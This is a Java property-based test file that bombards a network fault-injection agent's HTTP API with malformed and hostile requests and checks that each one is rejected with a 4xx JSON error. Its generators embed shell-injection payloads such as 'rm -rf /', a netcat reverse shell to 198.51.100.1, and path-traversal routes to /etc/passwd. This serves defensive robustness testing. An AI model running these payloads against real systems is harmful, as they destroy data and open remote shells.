package dev.netfault.agent.api;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import dev.netfault.agent.telemetry.FaultMetrics;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;

/**
 * Hostile input: random bytes, huge and negative numbers, deep nesting, wrong types, shell metacharacters in every
 * string field, traversal routes. Every request gets a 4xx with a JSON error, the agent keeps serving, and the
 * lifecycle is never asked to start or stop anything (so the kernel is unchanged).
 */
class HostileInputProperties {

    private static final ObjectMapper MAPPER = new ObjectMapper();
    private static final String START = "/fault/v1/%s/start";
    private static final AtomicInteger SENT = new AtomicInteger();
    private static FakeFaultService faults;
    private static AgentServer server;
    private static InetSocketAddress address;

    /** One generated request. */
    record Hostile(String path, byte[] body, String label) {
        @Override
        public String toString() {
            String text = new String(body, StandardCharsets.UTF_8);
            return label + " -> POST " + path + " " + text.substring(0, Math.min(200, text.length()));
        }
    }

    @BeforeContainer
    static void serve() throws Exception {
        faults = new FakeFaultService();
        server = new AgentServer(ApiConfig.defaults(new InetSocketAddress("127.0.0.1", 0)), faults, new FaultMetrics());
        address = server.start();
    }

    @AfterContainer
    static void stillServingAndUntouched() throws Exception {
        try {
            assertThat(SENT.get()).isGreaterThanOrEqualTo(500);
            var health = TestHttp.request(address, "GET", "/healthz", null, Map.of());
            assertThat(health.status()).isEqualTo(200);
            assertThat(faults.changes()).isEmpty();
        } finally {
            server.close();
        }
    }

    @Property(tries = 700)
    void hostileRequest_always4xxJsonAndNothingChanges(@ForAll("hostile") Hostile h) throws Exception {
        TestHttp.Response r;
        try (TestHttp http = new TestHttp(address)) {
            http.send("POST", h.path(), h.body(), Map.of(), false);
            r = http.read();
        }
        SENT.incrementAndGet();

        assertThat(r.status()).as(h.toString()).isBetween(400, 499);
        assertThat(MAPPER.readTree(r.body()).get("Error").asText()).isNotBlank();
        assertThat(faults.changes()).as(h.toString()).isEmpty();
    }

    @Provide
    Arbitrary<Hostile> hostile() {
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(2, randomBytes()),
                net.jqwik.api.Tuple.of(3, badNumbers()),
                net.jqwik.api.Tuple.of(1, deepNesting()),
                net.jqwik.api.Tuple.of(3, wrongTypes()),
                net.jqwik.api.Tuple.of(4, shellMetacharacters()),
                net.jqwik.api.Tuple.of(2, traversalRoutes()));
    }

    private static Map<String, Map<String, Object>> templates() {
        Map<String, Map<String, Object>> t = new LinkedHashMap<>();
        t.put("network-latency", new LinkedHashMap<>(Map.of("DelayMilliseconds", 100, "JitterMilliseconds", 10,
                "Sources", List.of("198.51.100.0/24"), "Interface", "eth0", "TrafficType", "egress",
                "Distribution", "normal", "SourcesToFilter", List.of("198.51.100.9"))));
        t.put("network-packet-loss", new LinkedHashMap<>(Map.of("LossPercent", 7, "Sources", List.of("198.51.100.0/24"),
                "LossModel", "burst", "MeanBurstPackets", 3, "Interface", "eth0", "TrafficType", "ingress")));
        t.put("network-blackhole-port", new LinkedHashMap<>(Map.of("Port", 443, "Protocol", "tcp",
                "TrafficType", "egress", "Sources", List.of("198.51.100.7"), "SourcesToFilter", List.of("2001:db8::1"))));
        return t;
    }

    private static final Map<String, List<String>> NUMBERS = Map.of(
            "network-latency", List.of("DelayMilliseconds", "JitterMilliseconds", "FlowsPercent", "DurationSeconds",
                    "CorrelationPercent"),
            "network-packet-loss", List.of("LossPercent", "FlowsPercent", "DurationSeconds", "MeanBurstPackets"),
            "network-blackhole-port", List.of("Port", "DurationSeconds"));

    private static final Map<String, List<String>> STRINGS = Map.of(
            "network-latency", List.of("Interface", "TrafficType", "Distribution", "Sources", "SourcesToFilter"),
            "network-packet-loss", List.of("Interface", "TrafficType", "LossModel", "Sources", "SourcesToFilter"),
            "network-blackhole-port", List.of("Protocol", "TrafficType", "Interface", "Sources", "SourcesToFilter"));

    private static Arbitrary<String> kinds() {
        return Arbitraries.of("network-latency", "network-packet-loss", "network-blackhole-port");
    }

    private static Hostile withField(String kind, String field, Object value, String label) {
        Map<String, Object> body = templates().get(kind);
        boolean list = field.startsWith("Sources");
        body.put(field, list && value instanceof String ? List.of(value) : value);
        try {
            return new Hostile(String.format(START, kind), MAPPER.writeValueAsBytes(body), label);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private Arbitrary<Hostile> randomBytes() {
        Arbitrary<byte[]> bytes = Arbitraries.bytes().array(byte[].class).ofMinSize(1).ofMaxSize(400);
        Arbitrary<String> route = Arbitraries.of(String.format(START, "network-latency"),
                String.format(START, "network-packet-loss"), String.format(START, "network-blackhole-port"),
                "/fault/v1/network-blackhole-port/stop", "/api/x/fault/v1/network-blackhole-port/status");
        return Combinators.combine(route, bytes).as((r, b) -> new Hostile(r, b, "random bytes"));
    }

    private Arbitrary<Hostile> badNumbers() {
        Arbitrary<String> numbers = Arbitraries.oneOf(
                Arbitraries.bigIntegers().between(new java.math.BigInteger("-1" + "0".repeat(40)),
                        java.math.BigInteger.valueOf(-1)).map(Object::toString),
                Arbitraries.bigIntegers().between(java.math.BigInteger.TWO.pow(64), java.math.BigInteger.TEN.pow(60))
                        .map(Object::toString),
                Arbitraries.doubles().between(-1e9, 1e9).filter(d -> d != Math.rint(d)).map(Object::toString),
                Arbitraries.of("1e400", "-0", "1E2", "0.5", "9.99e18", "-9223372036854775808"));
        return kinds().flatMap(kind -> Combinators.combine(Arbitraries.of(NUMBERS.get(kind)), numbers).as((f, n) -> {
            Hostile h = withField(kind, f, 12345, "bad number " + n + " in " + f);
            String json = new String(h.body(), StandardCharsets.UTF_8).replace("\"" + f + "\":12345", "\"" + f + "\":" + n);
            return new Hostile(h.path(), json.getBytes(StandardCharsets.UTF_8), h.label());
        }));
    }

    private Arbitrary<Hostile> deepNesting() {
        return Combinators.combine(kinds(), Arbitraries.integers().between(2, 3000), Arbitraries.of("[", "{\"a\":"))
                .as((kind, depth, open) -> {
                    String close = open.equals("[") ? "]" : "}";
                    String deep = open.repeat(depth) + "1" + close.repeat(depth);
                    String field = NUMBERS.get(kind).get(0);
                    String json = depth % 2 == 0 ? deep : "{\"" + field + "\":" + deep + "}";
                    return new Hostile(String.format(START, kind), json.getBytes(StandardCharsets.UTF_8),
                            "nesting depth " + depth);
                });
    }

    private Arbitrary<Hostile> wrongTypes() {
        Arbitrary<Object> wrong = Arbitraries.of("\"text\"", "true", "[]", "{}", "[1,2]", "{\"x\":1}");
        return kinds().flatMap(kind -> {
            List<String> fields = new java.util.ArrayList<>(NUMBERS.get(kind));
            fields.addAll(STRINGS.get(kind));
            return Combinators.combine(Arbitraries.of(fields), wrong, Arbitraries.of("17", "\"x\"", "[\"x\"]"))
                    .as((f, w, alt) -> {
                        Hostile h = withField(kind, f, "PLACEHOLDER", "wrong type in " + f);
                        boolean number = NUMBERS.get(kind).contains(f);
                        boolean list = f.startsWith("Sources");
                        String value = number ? (String) w : list ? (w.equals("[]") ? "[17]" : (String) w) : alt.equals("\"x\"") ? "17" : alt;
                        String json = new String(h.body(), StandardCharsets.UTF_8)
                                .replace(list ? "[\"PLACEHOLDER\"]" : "\"PLACEHOLDER\"", value);
                        return new Hostile(h.path(), json.getBytes(StandardCharsets.UTF_8), h.label() + " = " + value);
                    });
        });
    }

    private Arbitrary<Hostile> shellMetacharacters() {
        Arbitrary<String> meta = Arbitraries.of(";", "|", "&&", "$(", "`", "\n", "'", "\"", ">", "<", "*", " ", "\\", "#", "../");
        Arbitrary<String> payload = Arbitraries.of("reboot", "id)", "rm -rf /", "nc -e sh 198.51.100.1 1", "", "x`");
        return kinds().flatMap(kind -> Combinators.combine(Arbitraries.of(STRINGS.get(kind)), meta, payload,
                Arbitraries.of("eth0", "egress", "tcp", "198.51.100.1", "normal", "burst"))
                .as((f, m, p, base) -> withField(kind, f, base + m + p, "shell metacharacters in " + f)));
    }

    private Arbitrary<Hostile> traversalRoutes() {
        Arbitrary<String> paths = Arbitraries.of(
                "/api/../fault/v1/network-latency/stop", "/api/%2e%2e/fault/v1/network-packet-loss/stop",
                "/api/./fault/v1/network-latency/stop", "/fault/v1/network-latency/../network-packet-loss/stop",
                "/fault/v1/../../../etc/passwd", "/api/x/../../fault/v1/network-latency/stop", "//fault/v1/network-latency/stop",
                "/fault/v1/network-latency/stop/", "/fault/v1/network-latency/STOP", "/FAULT/v1/network-latency/stop",
                "/api/a%2Fb/fault/v1/network-latency/stop", "/fault/v1/network-latency/stop%00", "/fault/v1/%zz/stop",
                "/fault/v2/network-latency/stop", "/faults/../faults", "/api//fault/v1/network-latency/stop",
                "/fault/v1/network-latency;rm/stop", "/api/x/faults", "/metrics/../faults", "/healthz", "/faults");
        return Combinators.combine(paths, Arbitraries.strings().ofMaxLength(20))
                .as((p, junk) -> new Hostile(p, junk.getBytes(StandardCharsets.UTF_8), "traversal route"));
    }
}
